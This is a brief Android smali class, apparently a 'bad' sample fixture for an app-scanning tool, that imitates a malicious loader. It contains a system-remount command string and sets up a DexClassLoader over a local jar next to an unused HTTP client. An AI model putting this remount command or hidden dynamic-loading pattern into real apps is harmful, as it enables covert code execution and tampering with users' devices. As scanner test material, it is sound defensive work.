.class public Lcom/appwarden/screen/bad2/Loader;
.super Ljava/lang/Object;

# downloads with Apache HttpClient and loads a DEX in the same class
.method public static load(Landroid/content/Context;)V
    .locals 5
    const-string v0, "mount -o remount,rw /system"
    new-instance v0, Lorg/apache/http/impl/client/DefaultHttpClient;
    invoke-direct {v0}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
    new-instance v0, Ldalvik/system/DexClassLoader;
    const-string v1, "/data/data/com.appwarden.screen.bad2/files/u.jar"
    const-string v2, "/data/data/com.appwarden.screen.bad2/cache"
    const/4 v3, 0x0
    invoke-virtual {p0}, Landroid/content/Context;->getClassLoader()Ljava/lang/ClassLoader;
    move-result-object v4
    invoke-direct {v0, v1, v2, v3, v4}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V
    return-void
.end method
